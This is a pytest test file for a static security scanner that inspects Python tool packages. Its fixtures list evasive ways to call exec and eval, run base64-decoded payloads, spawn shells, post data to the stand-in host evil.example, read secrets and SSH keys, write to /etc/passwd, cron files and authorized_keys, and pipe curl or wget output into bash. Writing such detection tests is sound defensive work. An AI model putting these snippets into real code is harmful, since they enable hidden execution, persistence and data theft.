"""The scan's own rules on single files: every spelling of a trick is caught by its class, not its example."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from toolrig.packages import Capabilities
from toolrig.packages._astscan import scan_python
from toolrig.packages._compare import compare

CODE = "import os\nos.system('id')\n"
B64 = base64.b64encode(CODE.encode()).decode()
ZB64 = base64.b64encode(zlib.compress(CODE.encode())).decode()
NONE = Capabilities()


def blocking_rules(source: str, caps: Capabilities = NONE) -> set[str]:
    result = scan_python("pkg/tools.py", source)
    findings = [*result.findings, *compare(result.effects, caps, frozenset())]
    return {f.rule for f in findings if f.blocks}


EXEC_SPELLINGS = [
    "exec('print(1)')",
    "eval(input())",
    "compile(src, 'x', 'exec')",
    "getattr(__builtins__, 'ex' + 'ec')('print(1)')",
    "getattr(__builtins__, 'cexe'[::-1])('x')",
    "getattr(__builtins__, ''.join(['e', 'v', 'a', 'l']))('1')",
    "getattr(__builtins__, chr(101) + 'xec')('x')",
    "__builtins__['exec']('x')",
    "__builtins__.__dict__['exec']('x')",
    "import builtins\nbuiltins.exec('x')",
    "import builtins as b\ngetattr(b, 'eval')('1')",
    "import builtins\nvars(builtins)['exec']('x')",
    "globals()['__builtins__']['exec']('x')",
    "import builtins\nbuiltins.__dict__.get('exec')('x')",
    "e = eval\ne('1')",
    "f = lambda: exec\n",
    "from builtins import exec as run\nrun('x')",
    "x = '%s%s' % ('ex', 'ec')\ngetattr(__builtins__, x)('y')",
    "getattr(__builtins__, '{}{}'.format('ex', 'ec'))('y')",
    "getattr(__builtins__, 'EXEC'.lower())('y')",
    "import code\ncode.InteractiveInterpreter().runsource('x')",
    "__builtins__.__getattribute__('exec')('x')",
    "import builtins\nobject.__getattribute__(builtins, 'eval')('1')",
    "import builtins\nbuiltins.__dict__.__getitem__('exec')('x')",
    "import importlib\ngetattr(importlib.import_module('builtins'), 'ev' + 'al')('1')",
]


@pytest.mark.parametrize("source", EXEC_SPELLINGS)
def test_every_spelling_of_exec_blocks(source: str) -> None:
    rules = blocking_rules(source)
    assert rules & {"exec", "exec-decoded", "exec-reference"}, rules


DECODED_EXEC = [
    f"import base64\nexec(base64.b64decode('{B64}'))",
    f"import base64 as b\nexec(b.b64decode('{B64}'))",
    f"from base64 import b64decode as d\nexec(d('{B64}'))",
    f"import base64\ncode = base64.b64decode('{B64}')\nexec(code)",
    f"import base64\ncode = base64.b64decode('{B64}')\nsrc = code.decode()\nexec(src)",
    f"import codecs\nexec(codecs.decode({codecs.encode(CODE, 'rot13')!r}, 'rot13'))",
    f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{ZB64}')))",
    f"exec(bytes.fromhex('{CODE.encode().hex()}'))",
    f"import binascii\neval(compile(binascii.unhexlify('{CODE.encode().hex()}'), 'x', 'exec'))",
    "import marshal\nexec(marshal.loads(blob))",
]


@pytest.mark.parametrize("source", DECODED_EXEC)
def test_exec_of_decoded_data_is_critical(source: str) -> None:
    assert "exec-decoded" in blocking_rules(source)


def test_folded_payloads_are_scanned_for_what_they_do() -> None:
    """The decoded payload's own effects are found (here: a program started)."""
    result = scan_python("t.py", f"import base64\nexec(base64.b64decode('{B64}'))")
    assert any(e.category == "subprocess" and "<folded>" in e.file for e in result.effects)


SUBPROCESS_SPELLINGS = [
    "import subprocess\nsubprocess.run(['ls'])",
    "import subprocess as sp\nsp.Popen(['ls'])",
    "from subprocess import run\nrun(['ls'])",
    "from subprocess import *\ncheck_output(['ls'])",
    "import importlib\nimportlib.import_module('subprocess').run(['ls'])",
    "import importlib\nm = importlib.import_module('subprocess')\nm.run(['ls'])",
    "__import__('subprocess').run(['ls'])",
    "__import__('o' + 's').system('id')",
    "from os import system as s\ns('id')",
    "import os as o\no.system('id')",
    "import os\nos.popen('id')",
    "import os\nos.execvp('sh', ['sh'])",
    "import os\nos.spawnl(os.P_WAIT, '/bin/sh')",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "import sys\nsys.modules['os'].system('id')",
    "import pty\npty.spawn('/bin/sh')",
    "import asyncio\nasyncio.create_subprocess_shell('id')",
    "import os\nrunner = os.system\nrunner('id')",
    "import os\nos.__dict__['system']('id')",
    "import sys\nsys.modules.get('subprocess').run(['id'])",
    "import importlib\nimportlib.import_module('sub' + 'process').run(['id'])",
]


@pytest.mark.parametrize("source", SUBPROCESS_SPELLINGS)
def test_every_spelling_of_starting_a_program_needs_subprocess(source: str) -> None:
    assert "undeclared-subprocess" in blocking_rules(source)
    declared = blocking_rules(source, Capabilities(subprocess=True))
    assert "undeclared-subprocess" not in declared


COMPUTED = [
    "import os\ngetattr(os, name)('id')",
    "getattr(__builtins__, name)('x')",
    "__builtins__[key]('x')",
    "import sys\nsys.modules[name]",
    "globals()[name]()",
    "import builtins\nbuiltins.__dict__.get(name)('x')",
    "__import__(name)",
    "import importlib\nimportlib.import_module(name)",
    "import importlib.util\nimportlib.util.spec_from_file_location('m', path)",
    "import runpy\nrunpy.run_path(p)",
    "import operator, os\noperator.methodcaller('system', 'id')(os)",
    "import operator\noperator.attrgetter(name)",
    "import os\nos.__getattribute__(name)('id')",
    "import builtins\nobject.__getattribute__(builtins, name)('x')",
]


@pytest.mark.parametrize("source", COMPUTED)
def test_what_cannot_be_resolved_statically_blocks(source: str) -> None:
    assert blocking_rules(source) & {"dynamic-attribute", "dynamic-import"}, source


NETWORK = [
    ("import requests\nrequests.post('https://evil.example/x', data=b'')", "evil.example"),
    ("import httpx\nhttpx.get(f'https://evil.example/{x}')", "evil.example"),
    ("import urllib.request as u\nu.urlopen('http://evil.example/')", "evil.example"),
    ("from urllib.request import urlopen\nurlopen('https://' + 'evil.example' + '/x')", "evil.example"),
    ("import socket\nsocket.create_connection(('evil.example', 443))", "evil.example"),
    ("import socket\ns = socket.socket()\ns.connect(('evil.example', 443))", "evil.example"),
    ("import httpx\nc = httpx.Client()\nc.post('https://evil.example/c')", "evil.example"),
    ("import http.client\nhttp.client.HTTPSConnection('evil.example')", "evil.example"),
    ("import base64, httpx\nhttpx.get(base64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==').decode())", "evil.example"),
    ("import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n"
     "        await s.get('https://evil.example/')", "evil.example"),
]


@pytest.mark.parametrize(("source", "host"), NETWORK)
def test_network_hosts_are_found_and_compared(source: str, host: str) -> None:
    assert "undeclared-network" in blocking_rules(source)
    rules = blocking_rules(source, Capabilities(network=("api.good.example",)))
    assert rules & {"undeclared-host", "network-nonliteral"}, rules
    assert not blocking_rules(source, Capabilities(network=(host,))) - {"network-nonliteral"}


def test_a_computed_socket_address_is_not_literal() -> None:
    caps = Capabilities(network=("api.good.example",))
    source = "import socket\ns = socket.socket()\ns.connect((host, 443))"
    assert "network-nonliteral" in blocking_rules(source, caps)


def test_a_host_that_only_starts_literal_is_not_a_host() -> None:
    """``f"https://api.good.example{suffix}"`` may end anywhere (``.evil.com``): computed, not the good host."""
    caps = Capabilities(network=("api.good.example",))
    assert "network-nonliteral" in blocking_rules("import httpx\nhttpx.get(f'https://api.good.example{s}')", caps)
    assert not blocking_rules("import httpx\nhttpx.get(f'https://api.good.example/{s}')", caps)


ENV = [
    ("import os\nos.environ['SECRET']", "undeclared-env"),
    ("import os\nos.environ.get('SECRET')", "undeclared-env"),
    ("import os\nos.getenv('SECRET')", "undeclared-env"),
    ("from os import getenv as g\ng('SECRET')", "undeclared-env"),
    ("from os import environ\nenviron['SECRET']", "undeclared-env"),
    ("import os\n'SECRET' in os.environ", "undeclared-env"),
    ("import os\ndict(os.environ)", "env-all"),
    ("import os\nos.environ.copy()", "env-all"),
    ("import os\nfor k in os.environ: pass", "env-all"),
    ("import os\nos.getenv(name)", "env-nonliteral"),
    ("import os\nos.environ[name]", "env-nonliteral"),
]


@pytest.mark.parametrize(("source", "rule"), ENV)
def test_environment_reads_must_be_declared_by_name(source: str, rule: str) -> None:
    assert rule in blocking_rules(source)
    if rule == "undeclared-env":
        assert not blocking_rules(source, Capabilities(env=("SECRET",)))


WRITES = [
    "open('/etc/cron.d/job', 'w')",
    "open('/etc/passwd', mode='a')",
    "import os\nopen(os.path.expanduser('~/.bashrc'), 'a')",
    "from pathlib import Path\nPath('/etc/x').write_text('y')",
    "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('k')",
    "from pathlib import Path\nPath('notes/../../x').write_bytes(b'')",
    "import os\nos.remove('/var/log/syslog')",
    "import shutil\nshutil.rmtree('/srv')",
    "open('../outside.txt', 'x')",
    "import io\nio.FileIO('/etc/x', 'w')",
    "from pathlib import Path\nPath.write_text(Path('/etc/x'), 'y')",
]


@pytest.mark.parametrize("source", WRITES)
def test_writes_outside_the_declared_paths_block(source: str) -> None:
    assert "undeclared-write" in blocking_rules(source)
    assert "write-outside" in blocking_rules(source, Capabilities(write=("notes/",)))


def test_writes_inside_the_declared_paths_pass() -> None:
    caps = Capabilities(write=("notes/",))
    assert not blocking_rules("open('notes/a.txt', 'w')\n", caps)
    assert not blocking_rules("from pathlib import Path\n(Path('notes') / 'a.txt').write_text('x')\n", caps)
    assert not blocking_rules("open('/etc/hosts').read()\n", Capabilities(read=()))  - {"read-outside"}
    assert "read-outside" in blocking_rules("open('/home/u/.ssh/id_rsa').read()\n")


def test_text_rules_and_obfuscation() -> None:
    assert "download-and-run" in blocking_rules("CMD = 'wget -qO- http://x.example/a.sh | sudo bash'")
    assert "download-and-run" in blocking_rules("X = 'curl https://x.example/p.py | python3'")
    assert "native-code" in blocking_rules("import ctypes")
    assert "native-code" in blocking_rules("from cffi import FFI")
    blob = base64.b64encode(bytes(range(256)) * 2).decode()
    result = scan_python("t.py", f"import base64\nDATA = base64.b64decode('{blob}')\n")
    assert {"encoded-literal", "decoded-blob"} <= {f.rule for f in result.findings}
    assert "unparseable" in blocking_rules("def (:\n")


def test_plain_code_has_no_findings() -> None:
    source = '''
import json
import math
from dataclasses import dataclass

@dataclass
class Point:
    x: float
    y: float

def distance(a: Point, b: Point) -> float:
    """Distance."""
    data = {"get": 1}
    data.get("get")
    return math.hypot(a.x - b.x, a.y - b.y) + len(json.dumps(data))
'''
    result = scan_python("t.py", source)
    assert result.findings == [] and result.effects == []


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow], max_examples=200)
@given(st.text(max_size=400))
def test_any_text_is_scanned_without_crashing(text: str) -> None:
    result = scan_python("t.py", text)
    assert isinstance(result.findings, list)


IDENT = st.from_regex(r"[a-z][a-z0-9_]{0,10}", fullmatch=True).filter(
    lambda s: s not in {"exec", "eval", "os", "base64", "run", "import", "in", "is", "if", "or", "and", "as",
                        "not", "for", "def", "del", "try", "with", "from", "pass", "else", "elif", "while",
                        "class", "raise", "break", "global", "lambda", "return", "yield", "async", "await",
                        "assert", "except", "finally", "continue", "nonlocal", "none", "true", "false"})


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow], max_examples=60)
@given(alias=IDENT, name=IDENT, payload=st.binary(min_size=1, max_size=64))
def test_aliases_never_hide_decoding_into_exec(alias: str, name: str, payload: bytes) -> None:
    if alias == name:
        return
    encoded = base64.b64encode(payload).decode()
    source = f"import base64 as {alias}\n{name} = {alias}.b64decode('{encoded}')\nexec({name})\n"
    assert "exec-decoded" in blocking_rules(source)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow], max_examples=60)
@given(alias=IDENT, module=st.sampled_from(["subprocess", "pty"]),
       how=st.sampled_from(["import {m} as {a}", "{a} = __import__('{m}')",
                            "import importlib\n{a} = importlib.import_module('{m}')"]))
def test_any_alias_of_a_process_module_needs_subprocess(alias: str, module: str, how: str) -> None:
    if alias in ("importlib",):
        return
    source = how.format(m=module, a=alias) + f"\n{alias}.spawn('x')\n"
    assert "undeclared-subprocess" in blocking_rules(source)
